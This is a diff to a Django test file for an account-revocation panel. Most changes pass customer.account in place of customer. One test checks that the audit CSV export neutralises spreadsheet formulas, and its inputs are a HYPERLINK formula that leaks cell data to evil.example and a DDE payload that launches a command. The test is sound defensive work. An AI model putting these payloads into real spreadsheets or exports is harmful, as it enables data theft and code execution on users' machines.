@@ -24,7 +24,9 @@ def _panel(client, account, htmx=True):
 
 
 def _revoked(customer, requester, approver):
-    revocation = revocation_request(account=customer, requested_by=requester, reason="Fraud")
+    revocation = revocation_request(
+        account=customer.account, requested_by=requester, reason="Fraud"
+    )
     return revocation_approve(revocation_id=revocation.pk, approver=approver)
 
 
@@ -104,7 +106,7 @@ def test_restore_from_the_panel(customer, support_user, second_admin, admin_clie
     assert "Access restored." in response.content.decode()
     customer.refresh_from_db()
     assert customer.access_status == AccessStatus.ACTIVE
-    row = AccessAudit.objects.filter(account=customer).latest("id")
+    row = AccessAudit.objects.filter(account=customer.account).latest("id")
     assert (row.to_status, row.actor_user, row.reason) == (
         AccessStatus.ACTIVE,
         admin_user,
@@ -120,7 +122,7 @@ def _client_as(user) -> Client:
 
 def test_revocations_page_buttons_follow_the_role(customer, support_user, admin_user):
     admin_client_, support_client = _client_as(admin_user), _client_as(support_user)
-    own = revocation_request(account=customer, requested_by=admin_user, reason="Mine")
+    own = revocation_request(account=customer.account, requested_by=admin_user, reason="Mine")
     other = revocation_request(account=AccountFactory(), requested_by=support_user, reason="Theirs")
     body = admin_client_.get(reverse("revocation_list")).content.decode()
     assert f'data-testid="approve-{other.pk}"' in body
@@ -132,7 +134,9 @@ def test_revocations_page_buttons_follow_the_role(customer, support_user, admin_
 
 @pytest.mark.smoke
 def test_approve_and_reject_from_the_page(customer, support_user, admin_client_):
-    revocation = revocation_request(account=customer, requested_by=support_user, reason="Fraud")
+    revocation = revocation_request(
+        account=customer.account, requested_by=support_user, reason="Fraud"
+    )
     response = admin_client_.post(
         reverse("revocation_reject", args=[revocation.pk]),
         {"comment": ""},
@@ -246,7 +250,7 @@ def test_audit_csv_export(finance_user, support_user, django_assert_max_num_quer
 def test_audit_csv_cannot_carry_a_formula(finance_user, customer, support_user, second_admin):
     """A reason or reference a spreadsheet would run comes out as text (issue 14, finding 3)."""
     revocation = revocation_request(
-        account=customer,
+        account=customer.account,
         requested_by=support_user,
         reason='=HYPERLINK("http://evil.example/?"&A2,"Click")',
         reference="@SUM(1+1)*cmd|' /C calc'!A0",
